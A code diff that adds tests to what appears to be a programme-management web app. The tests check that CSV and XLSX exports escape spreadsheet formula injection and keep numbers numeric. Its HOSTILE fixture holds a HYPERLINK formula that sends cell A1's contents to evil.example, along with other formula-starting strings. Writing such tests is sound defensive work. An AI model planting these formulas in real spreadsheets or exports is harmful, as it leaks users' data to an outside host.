@@ -68,3 +68,45 @@ def test_xlsx_export_has_numbers_a_frozen_header_widths_and_percentages(app, wor
     q3 = [cell.value for cell in totals[4]]
     assert q3[:6] == ["Triwulan III 2025", 1, 3, 2, 3, 1] and totals.freeze_panes == "A2"
     assert abs(q3[6] - 1 / 3) < 1e-9 and totals.cell(row=4, column=7).number_format == "0.0%"
+
+
+HOSTILE = {"code": "=1+1", "name": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "kind": "@SUM(A1)"}
+
+
+def _hostile_programme(app, world):
+    with app.app_context():
+        agency, _community = add_agency("X", headcount=5)
+        agency.code, agency.name, agency.kind = HOSTILE["code"], HOSTILE["name"], HOSTILE["kind"]
+        db.session.get(Agency, world.agency_b).name = "-2+3"
+        db.session.get(Agency, world.agency_a).name = "\tTab\rCR"
+        db.session.commit()
+
+
+def test_spreadsheet_cell_guards_formula_starts_and_leaves_numbers():
+    from kmapp.programme.exports import spreadsheet_cell
+    for text in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "-abc"):
+        assert spreadsheet_cell(text) == "'" + text
+    for value in (-5, -0.25, 0, 12, "-5", "-0.2500", "0.0100", "Dinas Kesehatan", "", None, "a=b"):
+        assert spreadsheet_cell(value) == value
+
+
+def test_hostile_agency_names_are_text_in_the_csv_export(app, world, client, login_as):
+    _hostile_programme(app, world)
+    login_as("admin")
+    text = client.get("/programme/export.csv?year=2025").data.decode("utf-8")[1:]
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'=1+1" in cells and "'" + HOSTILE["name"] in cells and "'-2+3" in cells and "'\tTab\rCR" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "5" in cells  # numbers stay numbers
+
+
+def test_hostile_agency_names_are_text_in_the_xlsx_export(app, world, client, login_as):
+    _hostile_programme(app, world)
+    login_as("admin")
+    book = load_workbook(io.BytesIO(client.get("/programme/export.xlsx?year=2025").data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not any(cell.data_type == "f" for cell in cells)  # openpyxl writes "=..." text as a formula
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert "'=1+1" in texts and "'" + HOSTILE["name"] in texts and "'-2+3" in texts
+    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
+    assert 5 in [cell.value for cell in cells]  # the headcount is still a number
